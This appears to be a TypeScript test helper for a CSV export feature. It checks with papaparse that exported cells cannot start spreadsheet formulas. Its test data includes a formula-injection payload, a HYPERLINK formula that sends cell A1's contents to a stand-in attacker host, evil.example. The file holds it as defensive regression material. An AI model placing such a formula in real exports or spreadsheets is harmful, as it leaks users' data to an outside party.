import Papa from 'papaparse';
import { expect, vi } from 'vitest';
import { readBlob } from './admin-server';

/**
 * A cell whose every line would start a formula, through each kind of line break: first the leaking
 * link of issue 42, which papaparse's own escaping let through because a second line follows.
 */
export const FORMULA_LINES = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")\n+1;2\r\n-3\r@SUM(A1)\n\t=4';
/** The same cell as a spreadsheet reads it from the file: each line opened by an apostrophe. */
export const FORMULA_LINES_READ = `'=HYPERLINK("http://evil.example/?leak="&A1,"Click")\n'+1;2\r\n'-3\r'@SUM(A1)\n'\t=4`;

/** jsdom has no object URLs: captures the Blobs a page hands over, and reads the nth as text. */
export function captureDownloads() {
  const createObjectURL = vi.fn((_blob: Blob) => 'blob:csv');
  Object.assign(URL, { createObjectURL, revokeObjectURL: vi.fn() });
  return {
    async text(index = 0): Promise<string> {
      await vi.waitFor(() => expect(createObjectURL.mock.calls.length).toBeGreaterThan(index));
      return readBlob(createObjectURL.mock.calls[index][0]);
    },
  };
}

const startsFormula = (cell: string) => !/^-?\d+(\.\d+)?$/.test(cell) && cell.split(/\r\n|\r|\n/).some((line) => /^[=+\-@\t]/.test(line));

/** The file's rows as a spreadsheet reads them, once it is checked that no line of any cell but a number can start a formula. */
export function safeCsvRows(csv: string): string[][] {
  const { data, errors } = Papa.parse<string[]>(csv);
  expect(errors).toEqual([]);
  expect(data.flat().filter(startsFormula)).toEqual([]);
  return data;
}
